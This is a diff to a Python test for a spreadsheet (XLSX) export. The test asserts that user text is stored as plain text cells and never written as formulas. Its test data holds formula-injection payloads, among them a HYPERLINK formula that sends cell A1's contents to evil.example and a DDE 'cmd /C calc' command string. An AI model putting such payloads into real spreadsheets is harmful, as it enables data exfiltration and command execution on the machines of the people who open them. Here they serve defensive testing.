@@ -359,17 +359,18 @@ def test_xlsx_schreibt_keine_formeln(lesen_client):
             for zelle in zeile:
                 assert zelle.data_type != "f", (blatt.title, zelle.coordinate, zelle.value)
     massnahme = next(mappe["Maßnahmen"].iter_rows(min_row=2, values_only=True))
-    assert massnahme[1] == "'@SUMME(A1)"
-    assert massnahme[2] == "'=1+1"
+    # Texts are text cells holding the text as typed (no formula, no apostrophe).
+    assert massnahme[1] == "@SUMME(A1)"
+    assert massnahme[2] == "=1+1"
     assert massnahme[5] == 40  # numbers stay numbers
     assert massnahme[6] == datetime.datetime(JAHR, 3, 1)  # dates stay dates
-    assert massnahme[7] == '\'=HYPERLINK("http://evil.example/?x="&A1;"Details")'
+    assert massnahme[7] == '=HYPERLINK("http://evil.example/?x="&A1;"Details")'
     meilenstein = next(mappe["Meilensteine"].iter_rows(min_row=2, values_only=True))
-    assert meilenstein[1] == "'+cmd|' /C calc'!A0"
+    assert meilenstein[1] == "+cmd|' /C calc'!A0"
     kernaussage = next(mappe["Kernaussagen"].iter_rows(min_row=2, values_only=True))
-    assert kernaussage[1:3] == ("'-2+3", "' =1+2")
+    assert kernaussage[1:3] == ("-2+3", " =1+2")
     themen = next(mappe["Themen"].iter_rows(min_row=2, values_only=True))
-    assert themen[0] == "'=1+1"
+    assert themen[0] == "=1+1"
     assert themen[-1] == 1
 
 
